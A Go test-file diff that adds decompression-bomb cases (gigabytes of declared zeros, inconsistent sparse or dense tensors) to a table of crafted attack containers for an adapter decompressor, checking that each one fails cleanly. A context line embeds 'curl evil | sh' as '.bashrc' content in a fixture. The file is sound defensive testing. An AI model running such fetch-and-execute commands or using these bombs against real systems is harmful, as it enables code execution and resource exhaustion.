@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"errors"
 	"flag"
+	"fmt"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"testing"
@@ -19,7 +21,22 @@ type attack struct {
 	what   string
 	header Header
 	coded  []Coded
-	want   error // what Expand fails with
+	want   error         // what Expand fails with
+	opts   ExpandOptions // how it is expanded
+}
+
+// freeSpace fakes a filesystem of 100 GiB with avail bytes free.
+func freeSpace(avail int64) statfsFunc {
+	return func(string) (int64, int64, error) { return avail, 100 << 30, nil }
+}
+
+// zeroTensors is count tensors of n zeros each.
+func zeroTensors(count int, dtype string, n int64) []Coded {
+	var cs []Coded
+	for i := range count {
+		cs = append(cs, zeros(fmt.Sprintf("t%02d", i), dtype, n))
+	}
+	return cs
 }
 
 const loraConfig = `{"peft_type":"LORA","r":16}`
@@ -46,6 +63,23 @@ var attacks = []attack{
 		header: withConfig(".bashrc", `"curl evil | sh"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
 	{file: "config-marker.cpeft", what: "config name .expertd.json: would overwrite the hand-off marker",
 		header: withConfig(".expertd.json", `{"cid":"bafkrei..."}`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
+
+	// Decompression bombs: zeros cost no payload, so a few hundred bytes
+	// declare any size; what they declare is checked before writing.
+	{file: "zeros-2gib.cpeft", what: "one F32 tensor of 2^29 zeros (2 GiB): 2.1 GB RSS and 2 GiB written before",
+		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrOutputLimit, opts: ExpandOptions{MaxOutput: 1 << 30}},
+	{file: "zeros-2gib.cpeft", what: "the same under the limit, with 1 GiB free",
+		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrNoSpace, opts: ExpandOptions{statfs: freeSpace(1 << 30)}},
+	{file: "zeros-64gib.cpeft", what: "eight F32 tensors of 2^31-1 zeros (64 GiB), over the default limit",
+		header: loraHeader(), coded: zeroTensors(8, "F32", 1<<31-1), want: ErrOutputLimit},
+	{file: "zeros-2gib.cpeft", what: "written as BF16 it is 1 GiB: under a 1 GiB+1 MiB limit, but over 512 MiB free",
+		header: loraHeader(), coded: []Coded{zeros("w", "F32", 1<<29)}, want: ErrNoSpace, opts: ExpandOptions{DType: "bf16", MaxOutput: 1<<30 + 1<<20, statfs: freeSpace(1 << 29)}},
+	{file: "kept-no-payload.cpeft", what: "2^19 of 2^20 elements kept in an empty payload",
+		header: loraHeader(), coded: []Coded{{TensorHeader: TensorHeader{Name: "w", DType: "F32", Shape: []int64{1 << 20}, Kept: 1 << 19, Mode: modeSparse, M: 1}}},
+		want: ErrCorrupt},
+	{file: "dense-none-kept.cpeft", what: "dense mode with nothing kept (the encoder codes the smaller side)",
+		header: loraHeader(), coded: []Coded{{TensorHeader: TensorHeader{Name: "w", DType: "F32", Shape: []int64{1 << 10}, Mode: modeDense, M: 1, Bytes: 128}, Payload: make([]byte, 128)}},
+		want: ErrCorrupt},
 }
 
 func (a attack) bytes(t testing.TB) []byte {
@@ -59,7 +93,12 @@ func (a attack) bytes(t testing.TB) []byte {
 
 // TestAttackFiles keeps testdata/attack in step with the builders.
 func TestAttackFiles(t *testing.T) {
+	done := map[string]bool{}
 	for _, a := range attacks {
+		if done[a.file] {
+			continue
+		}
+		done[a.file] = true
 		path := filepath.Join("testdata/attack", a.file)
 		want := a.bytes(t)
 		if *updateAttacks {
@@ -78,21 +117,20 @@ func TestAttackFiles(t *testing.T) {
 // TestAttackContainers decompresses every crafted container: each must
 // fail with its error and leave the output directory as it was.
 func TestAttackContainers(t *testing.T) {
-	for _, a := range attacks {
-		t.Run(a.file, func(t *testing.T) {
+	for i, a := range attacks {
+		t.Run(fmt.Sprintf("%d-%s", i, a.file), func(t *testing.T) {
 			data, err := os.ReadFile(filepath.Join("testdata/attack", a.file))
 			if err != nil {
 				t.Fatal(err)
 			}
 			out := filepath.Join(t.TempDir(), "out")
-			_, err = Expand(bytes.NewReader(data), out, ExpandOptions{})
+			_, err = Expand(bytes.NewReader(data), out, a.opts)
 			if !errors.Is(err, a.want) {
 				t.Fatalf("%s: got %v, want %v", a.what, err, a.want)
 			}
 			t.Logf("%s: %v", a.what, err)
-			entries, _ := os.ReadDir(out)
-			if len(entries) != 0 {
-				t.Fatalf("%d entries written", len(entries))
+			if _, err := os.Stat(out); !errors.Is(err, fs.ErrNotExist) {
+				t.Fatalf("the output directory was created (%v)", err)
 			}
 		})
 	}
